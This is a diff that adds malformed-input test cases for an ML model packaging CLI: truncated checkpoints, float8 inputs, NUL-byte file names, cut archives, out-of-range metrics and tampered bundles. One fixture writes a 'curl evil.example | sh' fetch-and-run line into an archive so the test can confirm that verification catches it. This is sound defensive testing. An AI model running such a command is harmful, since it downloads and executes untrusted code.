@@ -281,6 +281,12 @@ def nan_values(tmp):
     return _build(tmp, _model(tmp), _calib(tmp, data))
 
 
+def float64_beyond_float32(tmp):
+    data = np.random.default_rng(0).standard_normal((8, 3, 8, 8))  # float64, as numpy makes it
+    data[3, 1, 2, 2] = 1e300
+    return _build(tmp, _model(tmp), _calib(tmp, data))
+
+
 def mismatched_names(tmp):
     return _build(tmp, _model(tmp), _calib(tmp, key="image"))
 
@@ -337,6 +343,25 @@ def checkpoint_zip_bomb(tmp):
     return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(tmp / "bomb.pt"), "--target",
             "jetson", "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")),
             "--out", str(tmp / "out")]
+
+
+def truncated_checkpoint(tmp):
+    import torch
+
+    from edgepipe.demo.model import build_demo
+
+    torch.save(build_demo().state_dict(), tmp / "whole.pt")
+    data = (tmp / "whole.pt").read_bytes()
+    (tmp / "cut.pt").write_bytes(data[: len(data) // 2])
+    return ["build", "--model", "edgepipe.demo.model:build_demo", "--weights", str(tmp / "cut.pt"), "--target",
+            "jetson", "--calib", str(_calib(tmp, np.zeros((4, 3, 32, 32), np.float32), key="image")),
+            "--out", str(tmp / "out")]
+
+
+def model_is_a_folder(tmp):
+    (tmp / "model.pt").mkdir()
+    return ["build", "--model", str(tmp / "model.pt"), "--target", "jetson", "--input-shape", "x:1x3x8x8",
+            "--calib", str(_calib(tmp)), "--out", str(tmp / "out")]
 
 
 class _FileWriter:
@@ -491,6 +516,11 @@ def _dynamic_size_model(tmp) -> Path:
     for dim in model.graph.input[0].type.tensor_type.shape.dim[2:]:
         dim.dim_param = "size"
     return _model(tmp, model)
+
+
+def input_shape_unicode_digit(tmp):
+    """Python's int() reads the Arabic-Indic digit one as 1; a shape flag takes ASCII digits only."""
+    return _build(tmp, _dynamic_size_model(tmp), _calib(tmp), "arm-cpu", "--input-shape", "x:1x3x\u0668x8")
 
 
 def input_shape_overflow(tmp):
@@ -837,6 +867,122 @@ def torch_model_corrupt_npz(tmp):
     return _build(tmp, tmp / "model.pt", tmp / "calib.npz")
 
 
+def sequence_input(tmp):
+    """A sequence-typed graph input (a classical-ML export): was a KeyError deep in shape handling."""
+    sequence = onnx.helper.make_tensor_sequence_value_info("x", onnx.TensorProto.FLOAT, None)
+    node = onnx.helper.make_node("SequenceAt", ["x", "i"], ["y"])
+    index = onnx.numpy_helper.from_array(np.array(0, np.int64), "i")
+    model = _tiny_graph(tmp, [node], [sequence], [_vector("y")], [index])
+    return ["inspect", str(model)]
+
+
+def float8_input(tmp):
+    """A float8 model input: fold's first ONNX Runtime run failed inside onnxruntime (exit 3)."""
+    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT8E4M3FN, [1, 4])
+    cast = onnx.helper.make_node("Cast", ["x"], ["y"], to=onnx.TensorProto.FLOAT)
+    graph = onnx.helper.make_graph([cast], "g", [x], [_vector("y")])
+    path = tmp / "model.onnx"
+    onnx.save(onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 19)]), str(path))
+    return _build(tmp, path, _calib(tmp, np.ones((4, 4), np.float32)), "arm-cpu")
+
+
+def external_data_nul(tmp):
+    """An external-data location holding a NUL byte: Path.resolve raised ValueError (exit 3)."""
+    weight = onnx.numpy_helper.from_array(np.ones(4, np.float32), "w")
+    weight.ClearField("raw_data")
+    weight.data_location = onnx.TensorProto.EXTERNAL
+    weight.external_data.add(key="location", value="w\x00.bin")
+    add = onnx.helper.make_node("Add", ["x", "w"], ["y"], name="add")
+    model = onnx.helper.make_model(onnx.helper.make_graph([add], "g", [_vector("x")], [_vector("y")], [weight]),
+                                   opset_imports=[onnx.helper.make_opsetid("", 17)])
+    path = tmp / "model.onnx"
+    path.write_bytes(model.SerializeToString())  # onnx.save would refuse to write it
+    return _build(tmp, path, _calib(tmp, np.ones((4, 1, 4), np.float32)), "arm-cpu")
+
+
+def huge_static_input_inspect(tmp):
+    """inspect of a model whose static input holds 2^65 elements: fold's random feed raised ValueError."""
+    x = onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 1 << 62, 8])
+    total = onnx.helper.make_node("ReduceSum", ["x"], ["y"], keepdims=0)
+    y = onnx.helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [])
+    return ["inspect", str(_tiny_graph(tmp, [total], [x], [y]))]
+
+
+def cut_gzip_archive(tmp):
+    """A .tar.gz cut inside its gzip header: click reported gzip's EOFError as "aborted" (exit 130)."""
+    archive = tmp / "cut.tar.gz"
+    archive.write_bytes(b"\x1f\x8b\x08\x04\x00\x00\x00\x00\x00\x03")  # FEXTRA flag, then nothing
+    return ["verify", str(archive)]
+
+
+def archive_beside_bundle(tmp):
+    """A good bundle folder plus a file beside it: `verify` said OK, and `tar xf` unpacks that file too."""
+    bundle = tmp / "bundle"
+    bundle.mkdir()
+    (bundle / "manifest.json").write_text(json.dumps({"schema": 1, "files": []}))
+    (tmp / "install.sh").write_text("curl evil.example | sh\n")
+    archive = tmp / "extra.tar.gz"
+    with tarfile.open(archive, "w:gz") as tar:
+        tar.add(bundle, arcname="bundle")
+        tar.add(tmp / "install.sh", arcname="install.sh")
+    return ["verify", str(archive)]
+
+
+def deploy_timeout_nan(tmp):
+    bundle = tmp / "bundle"
+    bundle.mkdir()
+    return ["deploy", str(bundle), "--host", "127.0.0.1", "--timeout", "nan"]
+
+
+def negative_candidate_latency(tmp):
+    """A candidate p50 of -1 ms passed every latency budget (only the baseline was checked)."""
+    candidate = _results(tmp, "candidate.json", latency_ms__p50=-1.0)
+    return ["regress", "--baseline", str(_results(tmp, "baseline.json")), "--candidate", str(candidate)]
+
+
+def accuracy_out_of_range(tmp):
+    """A candidate top-1 of 2.0 passed every accuracy budget."""
+    candidate = _results(tmp, "candidate.json", accuracy__top1=2.0)
+    return ["regress", "--baseline", str(_results(tmp, "baseline.json")), "--candidate", str(candidate)]
+
+
+def negative_labels(tmp):
+    """Label -1 (an 'unlabeled' marker): numpy read it as the last class and top-1 looked real."""
+    data = np.random.default_rng(0).standard_normal((8, 3, 8, 8)).astype(np.float32)
+    labels = np.array([0, 1, 2, -1, 0, 1, 2, 3])
+    return _build(tmp, _model(tmp), _calib(tmp), "arm-cpu", "--eval", str(_calib(tmp, data, "eval.npz", labels=labels)))
+
+
+def compare_tampered_bundle(tmp):
+    """compare ran a bundle whose eval.npz (or model) no longer matched its manifest: a changed
+    eval set failed inside ONNX Runtime (exit 3), a changed model.tflite inside LiteRT."""
+    import hashlib
+
+    bundle = tmp / "bundle"
+    (bundle / "eval").mkdir(parents=True)
+    (bundle / "eval" / "eval.npz").write_bytes(b"changed")
+    digest = hashlib.sha256(b"original").hexdigest()
+    manifest = {"schema": 1, "target": {"name": "arm-cpu"},
+                "files": [{"path": "eval/eval.npz", "size": 8, "sha256": digest}]}
+    (bundle / "manifest.json").write_text(json.dumps(manifest))
+    return ["compare", str(bundle), "--no-alone"]
+
+
+def sensitivity_budget_nan(tmp):
+    return ["sensitivity", str(_model(tmp)), "--calib", str(_calib(tmp)), "--budget", "nan"]
+
+
+def long_io_name(tmp):
+    """An input named with 100,000 characters: the whole build ran, then writing the bundle's
+    eval.npz (key 'input:<name>', a zip member name of at most 65535 bytes) failed (exit 3)."""
+    name = "x" * 100_000
+    x = onnx.helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, [1, 4])
+    relu = onnx.helper.make_node("Relu", [name], ["y"])
+    model = _tiny_graph(tmp, [relu], [x], [_vector("y")])
+    np.save(tmp / "calib.npy", np.ones((4, 4), np.float32))
+    return _build(tmp, model, tmp / "calib.npy", "arm-cpu")
+
+
 CASES = [
     Case("truncated-onnx", "truncated .onnx file", truncated_onnx, ("model.onnx", "not a readable ONNX model")),
     Case("garbage-onnx", "a file that is not ONNX at all", garbage_onnx, ("model.onnx", "not a readable ONNX model")),
@@ -873,6 +1019,8 @@ CASES = [
          ("huge.png", "decompression bomb")),
     Case("npy-negative-shape", "a .npy header declaring shape (-1, 3, 8, 8)", npy_negative_shape,
          ("calib.npy", "(-1, 3, 8, 8)", "non-negative")),
+    Case("input-shape-unicode-digit", "`--input-shape x:1x3x\u0668x8` (a non-ASCII digit int() would read)",
+         input_shape_unicode_digit, ("--input-shape", "integers")),
     Case("input-shape-overflow", "`--input-shape x:1x3x99999999999999999999x8` for a dynamic input", input_shape_overflow,
          ("--input-shape 'x:1x3x99999999999999999999x8'", "would hold")),
     Case("npy-shape-overflow", "a .npy header whose samples are (3, 99999999999999999999, 8), for a dynamic input",
@@ -882,6 +1030,8 @@ CASES = [
     Case("wrong-shape", "calibration tensors of the wrong shape", wrong_shape, ("'x'", "9")),
     Case("wrong-dtype", "calibration tensors that are not numbers", wrong_dtype, ("'x'",)),
     Case("nan-values", "NaN in the calibration data", nan_values, ("'x'", "5")),
+    Case("float64-beyond-float32", "float64 calibration data with a value float32 cannot hold (it would be Inf)",
+         float64_beyond_float32, ("'x'", "sample 3", "float32")),
     Case("token-id-out-of-range", "token ids past the model's embedding table (another tokenizer's vocabulary)",
          token_id_out_of_range, ("sample 2", "'input_ids'", "30522", "'embedding'", "0..9")),
     Case("mismatched-names", ".npz keys that are not the model's input names", mismatched_names, ("'x'", "image")),
@@ -891,6 +1041,9 @@ CASES = [
     Case("unknown-target", "an unknown target name", unknown_target, ("pdp-11", "arm-cpu")),
     Case("bad-factory", "a module:factory that does not import", bad_factory, ("no_such_pkg_xyz",)),
     Case("unsafe-checkpoint", "a checkpoint that needs unsafe unpickling", unsafe_checkpoint, ("evil.pt", "weights_only=True")),
+    Case("truncated-checkpoint", "a --weights checkpoint cut short (an interrupted copy)", truncated_checkpoint,
+         ("cut.pt", "cut short")),
+    Case("model-is-a-folder", "--model naming a folder (model.pt/)", model_is_a_folder, ("model.pt", "is a folder")),
     Case("checkpoint-zip-bomb", "a --weights checkpoint whose data.pkl inflates 1000:1 (torch.load reads it whole)",
          checkpoint_zip_bomb, ("bomb.pt", "checkpoint member 'plain/data.pkl'", "zip bomb")),
     Case("unsafe-export-program", "a torch.export .pt2 with pickled Python objects", unsafe_export_program,
@@ -974,6 +1127,31 @@ CASES = [
          ("bundle/model.bin", "link")),
     Case("training-dropout", "a Dropout in training mode (training_mode true)", training_dropout,
          ("node 'drop' (Dropout)", "training_mode input 'mode' is true")),
+    Case("sequence-input", "a model whose input is a sequence, not a tensor (`inspect`)", sequence_input,
+         ("model.onnx: input 'x' is of type sequence, not a tensor",)),
+    Case("float8-input", "a float8 model input", float8_input,
+         ("model.onnx: input 'x' is FLOAT8E4M3FN", "export the model with float32 inputs")),
+    Case("external-data-nul", "an external-data file name holding a NUL byte", external_data_nul,
+         ("model.onnx: initializer 'w'", "NUL character")),
+    Case("huge-static-input", "`inspect` of a model whose static input holds 2^65 elements", huge_static_input_inspect,
+         ("model.onnx: tensor 'x' would hold 36893488147419103232 elements",)),
+    Case("cut-gzip-archive", "a bundle .tar.gz cut inside its gzip header", cut_gzip_archive,
+         ("cut.tar.gz: not a readable tar archive",)),
+    Case("archive-beside-bundle", "a bundle archive holding a file beside the bundle folder", archive_beside_bundle,
+         ("extra.tar.gz: the archive holds 'install.sh' beside the bundle folder 'bundle'",)),
+    Case("deploy-timeout-nan", "`deploy --timeout nan`", deploy_timeout_nan, ("--timeout nan",)),
+    Case("negative-candidate-latency", "a candidate results.json with a negative latency", negative_candidate_latency,
+         ("candidate.json: 'latency_ms.p50' must be a time >= 0, got -1.0",)),
+    Case("accuracy-out-of-range", "a candidate top-1 of 2.0", accuracy_out_of_range,
+         ("candidate.json: 'accuracy.top1' must be a fraction from 0 to 1, got 2.0",)),
+    Case("negative-labels", "evaluation labels holding -1", negative_labels,
+         ("eval.npz: 'labels' holds -1 for sample 3",)),
+    Case("compare-tampered-bundle", "`compare` of a bundle whose eval.npz changed after the build",
+         compare_tampered_bundle, ("refusing to compare a bundle that fails `edgepipe verify`: eval/eval.npz",)),
+    Case("long-io-name", "a model input named with 100,000 characters", long_io_name,
+         ("model.onnx: input 'xxxxxxxxxx", "has a name of 100000 bytes")),
+    Case("sensitivity-budget-nan", "`sensitivity --budget nan` (checked before any work)", sensitivity_budget_nan,
+         ("--budget nan",)),
 ]
 
 
